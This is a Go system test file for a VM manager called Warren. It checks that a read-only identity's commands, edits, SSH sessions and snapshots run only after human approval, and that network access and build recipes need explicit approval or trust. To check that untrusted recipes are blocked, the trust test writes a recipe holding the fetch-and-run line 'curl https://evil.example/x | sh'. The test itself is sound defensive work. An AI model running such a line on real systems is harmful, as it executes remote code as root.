// Copyright 2026 The Warren Authors
// SPDX-License-Identifier: Apache-2.0

//go:build system

package system

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/warren-vm/warren/vm"
)

// asked is a server with a VM, and an identity that has to ask.
type asked struct {
	*openssh
	token string
}

// TestAsk: an identity may read a VM and asks for the rest. What it waits for runs once it is
// approved, by the command line and by SSH; what nobody approves never runs. A program in the
// VM proposes a host, and the approval opens it at once. A recipe is used once it is trusted.
//
// 001-05, 001-08, 003-30
func TestAsk(t *testing.T) {
	s := newOpenSSH(t)
	h := s.h
	h.ok("up", "--name", "box", "--net", "closed")
	h.ok("identity", "create", "ann")
	h.ok("identity", "grant", "ann", "box", "--read-only", "--ask", "snapshot")
	var made struct{ Token string }
	if err := json.Unmarshal([]byte(h.ok("token", "create", "ann", "--json")), &made); err != nil || made.Token == "" {
		t.Fatalf("the token is not there: %v", err)
	}
	a := &asked{s, made.Token}
	t.Run("approved", func(t *testing.T) { a.on(t).approved() })
	t.Run("denied", func(t *testing.T) { a.on(t).denied() })
	t.Run("late", func(t *testing.T) { a.on(t).late() })
	t.Run("read-only", func(t *testing.T) { a.on(t).readOnly() })
	t.Run("ssh", func(t *testing.T) { a.on(t).bySSH() })
	t.Run("leaves", func(t *testing.T) { a.on(t).leaves() })
	t.Run("snapshot", func(t *testing.T) { a.on(t).snapshot() })
	t.Run("proposal", func(t *testing.T) { a.on(t).proposal() })
	t.Run("trust", func(t *testing.T) { a.on(t).trust() })
}

func (a *asked) on(t *testing.T) *asked {
	s := *a.openssh
	s.h = a.h.on(t)
	return &asked{&s, a.token}
}

// begin starts a command of the identity, whose outcome the channel gets.
func (a *asked) begin(argv ...string) (over <-chan result, end func()) {
	a.h.t.Helper()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Env = append(a.env, "WARREN_API_KEY="+a.token)
	var out, errs strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errs
	if err := cmd.Start(); err != nil {
		a.h.t.Fatal(err)
	}
	done := make(chan result, 1)
	go func() {
		_ = cmd.Wait() // the status says it
		done <- result{args: argv, code: cmd.ProcessState.ExitCode(), stdout: out.String(), stderr: errs.String()}
	}()
	a.h.t.Cleanup(func() { _ = cmd.Process.Kill() })
	return done, func() { _ = cmd.Process.Kill() }
}

func (a *asked) warren(argv ...string) <-chan result {
	a.h.t.Helper()
	over, _ := a.begin(append([]string{a.h.binary}, argv...)...)
	return over
}

// pending waits until one ask waits, and returns it.
func (a *asked) pending() vm.Ask {
	a.h.t.Helper()
	var list []vm.Ask
	a.h.eventually("one ask waits", func() bool {
		list = nil
		if err := json.Unmarshal([]byte(a.h.ok("ask", "ls", "--json")), &list); err != nil {
			a.h.t.Fatal(err)
		}
		return len(list) == 1
	})
	return list[0]
}

func (a *asked) got(over <-chan result) result {
	a.h.t.Helper()
	select {
	case r := <-over:
		return r
	case <-time.After(2 * time.Minute):
		a.h.t.Fatal("the command has not ended in 2 minutes")
		return result{}
	}
}

func (a *asked) approved() {
	over := a.warren("exec", "box", "--env", "TOKEN=secret", "--cwd", "/tmp", "--", "sh", "-c", "echo one\necho two")
	ask := a.pending()
	shown := a.h.ok("ask", "show", ask.ID)
	for _, want := range []string{"| sh -c 'echo one\n  | echo two'\n", "| /tmp\n", "| TOKEN\n", "| root\n", ask.Digest} {
		if !strings.Contains(shown, want) {
			a.h.t.Errorf("ask show prints %q, want %q in it", shown, want)
		}
	}
	if strings.Contains(shown, "secret") {
		a.h.t.Errorf("ask show prints the value of a variable: %q", shown)
	}
	if r := a.got(a.warren("ask", "approve", ask.ID)); r.code != 4 {
		a.h.t.Errorf("the identity's own approval gives %v, want it denied with status 4", r)
	}
	a.h.ok("approve", ask.ID, "--note", "go ahead")
	if r := a.got(over); r.code != 0 || r.stdout != "one\ntwo\n" {
		a.h.t.Errorf("the approved command gives %v, want its output", r)
	}
	if out := a.h.ok("audit", "ls", "--json", "--vm", "box"); !strings.Contains(out, `"ask": "`+ask.ID+`"`) && !strings.Contains(out, `"ask":"`+ask.ID+`"`) {
		a.h.t.Errorf("no audit record names %s", ask.ID)
	}
}

func (a *asked) denied() {
	over := a.warren("exec", "box", "--", "touch", "/denied")
	a.h.ok("deny", a.pending().ID, "--note", "not on Fridays")
	a.got(over).wants(a.h.t, 125, "not on Fridays")
	if out := a.h.sh("box", "ls /denied 2>&1 || true"); !strings.Contains(out, "No such file") {
		a.h.t.Errorf("the denied command's file gives %q, want that there is none", out)
	}
}

func (a *asked) late() {
	over := a.warren("--ask-timeout", "2s", "exec", "box", "--", "touch", "/late")
	ask := a.pending()
	a.got(over).wants(a.h.t, 125, "deadline has passed")
	r := a.h.run("approve", ask.ID)
	r.wants(a.h.t, 6, "deadline has passed")
	if out := a.h.sh("box", "ls /late 2>&1 || true"); !strings.Contains(out, "No such file") {
		a.h.t.Errorf("the late command's file gives %q, want that there is none", out)
	}
}

// readOnly: an identity that may read asks for edits and commands.
func (a *asked) readOnly() {
	a.h.sh("box", "echo kept > /root/file")
	if r := a.got(a.warren("cp", "box:/root/file", "-")); r.code != 0 || r.stdout != "kept\n" {
		a.h.t.Errorf("a read gives %v, want the file without a question", r)
	}
	local := filepath.Join(a.h.t.TempDir(), "new")
	if err := os.WriteFile(local, []byte("changed by ann\n"), 0o600); err != nil {
		a.h.t.Fatal(err)
	}
	over := a.warren("cp", local, "box:/root/file")
	ask := a.pending()
	if ask.Verb != vm.OpWrite || !strings.Contains(ask.What, "/root/file") {
		a.h.t.Errorf("the ask for an edit is %+v, want the write and its path", ask)
	}
	a.h.ok("approve", ask.ID)
	if r := a.got(over); r.code != 0 {
		a.h.t.Errorf("the approved edit gives %v", r)
	}
	if got := a.h.sh("box", "cat /root/file"); got != "changed by ann" {
		a.h.t.Errorf("after the approved edit the file holds %q", got)
	}
}

func (a *asked) bySSH() {
	to := "box:" + a.token + "@127.0.0.1"
	over, _ := a.begin(append(append([]string{"ssh"}, a.direct()...), to, "echo by ssh")...)
	ask := a.pending()
	if ask.What != "echo by ssh" {
		a.h.t.Errorf("the ask for a command by SSH says %q", ask.What)
	}
	a.h.ok("approve", ask.ID)
	if r := a.got(over); r.code != 0 || r.stdout != "by ssh\n" {
		a.h.t.Errorf("the approved command by SSH gives %v", r)
	}
	over, _ = a.begin(append(append([]string{"ssh"}, a.direct()...), "-tt", to)...)
	ask = a.pending()
	if ask.Verb != vm.OpTerminal {
		a.h.t.Errorf("the ask for a shell has the verb %s, want that of a terminal", ask.Verb)
	}
	a.h.ok("deny", ask.ID)
	if r := a.got(over); r.code == 0 || !strings.Contains(r.stdout+r.stderr, "denied") {
		a.h.t.Errorf("the denied shell gives %v, want that it was denied", r)
	}
}

// leaves: nothing runs for a client that has left, whatever is decided then.
func (a *asked) leaves() {
	for what, argv := range map[string][]string{
		"exec": {a.h.binary, "exec", "box", "--", "touch", "/left"},
		"ssh":  append(append([]string{"ssh"}, a.direct()...), "box:"+a.token+"@127.0.0.1", "touch /left"),
	} {
		over, end := a.begin(argv...)
		ask := a.pending()
		end()
		a.got(over)
		a.h.eventually("the ask of "+what+" ends with its client", func() bool {
			return strings.Contains(a.h.ok("ask", "show", ask.ID), "ended")
		})
		a.h.run("approve", ask.ID).wants(a.h.t, 6, "nobody waits")
	}
	if out := a.h.sh("box", "ls /left 2>&1 || true"); !strings.Contains(out, "No such file") {
		a.h.t.Errorf("the file of clients that left gives %q, want that there is none", out)
	}
}

func (a *asked) snapshot() {
	over := a.warren("snapshot", "create", "box", "--name", "by-ann")
	a.h.ok("approve", a.pending().ID)
	if r := a.got(over); r.code != 0 {
		a.h.t.Errorf("the approved snapshot gives %v", r)
	}
	if out := a.h.ok("snapshot", "ls"); !strings.Contains(out, "by-ann") {
		a.h.t.Errorf("the snapshots are %q, want by-ann", out)
	}
}

// proposal: the network stays closed until a need is approved.
func (a *asked) proposal() {
	h := a.h
	refused := h.run("net", "check", "box", "api.example.com")
	if refused.code == 0 && strings.Contains(refused.stdout, "allowed") {
		h.t.Fatalf("before the approval net check gives %v, want a refusal", refused)
	}
	out := h.sh("box", `curl -sS -X POST -H 'Accept: application/json' -d '{"host":"api.example.com","port":443,"why":"the build needs it"}' http://policy.warren.internal/ask`)
	ask := a.pending()
	if !strings.Contains(out, ask.ID) || ask.Why != "the build needs it" {
		h.t.Errorf("the VM's program is told %q of the ask %+v, want its id and the reason kept", out, ask)
	}
	h.ok("net", "approve", ask.ID, "--for", "1h")
	var answer vm.NetAnswer
	if err := json.Unmarshal([]byte(h.ok("net", "check", "box", "api.example.com", "--json")), &answer); err != nil || !answer.Allowed || answer.Rule == nil || answer.Rule.From != ask.ID || answer.Rule.Until.IsZero() {
		h.t.Errorf("after the approval for an hour the policy says %+v (%v), want a rule of %s with an end", answer, err, ask.ID)
	}
	h.sh("box", `curl -sS -X POST -d '{"host":"evil.example.com","why":"x"}' http://policy.warren.internal/ask`)
	second := a.pending()
	h.ok("net", "deny", second.ID, "--note", "use the mirror")
	if out := h.sh("box", "curl -sS http://policy.warren.internal/ask/"+second.ID); !strings.Contains(out, "use the mirror") {
		h.t.Errorf("the VM's program is told %q of the denial, want the note", out)
	}
}

// trust: a recipe is used only after somebody trusts it.
func (a *asked) trust() {
	h := a.h
	dir := filepath.Join(h.t.TempDir(), "mine")
	if err := os.Mkdir(dir, 0o700); err != nil {
		h.t.Fatal(err)
	}
	write := func(text string) {
		if err := os.WriteFile(filepath.Join(dir, "warren.yaml"), []byte(text), 0o600); err != nil {
			h.t.Fatal(err)
		}
	}
	write("name: mine\nrun:\n  - curl https://evil.example/x | sh\n")
	h.run("up", dir, "--name", "untrusted").wants(h.t, 4, "nobody has trusted this recipe")
	r := h.run("trust", "add", dir)
	if r.code != 0 || !strings.Contains(r.stderr, "| runs as root") || !strings.Contains(r.stderr, "curl https://evil.example/x | sh") {
		h.t.Errorf("trust add gives %v, want it to print what the recipe runs", r)
	}
	write("name: mine\nrun:\n  - curl https://evil.example/other | sh\n")
	h.run("image", "build", dir).wants(h.t, 4, "nobody has trusted this recipe")
	h.run("image", "build", dir, "--trust", "sha256:"+strings.Repeat("0", 64)).wants(h.t, 4, "names another one")
}
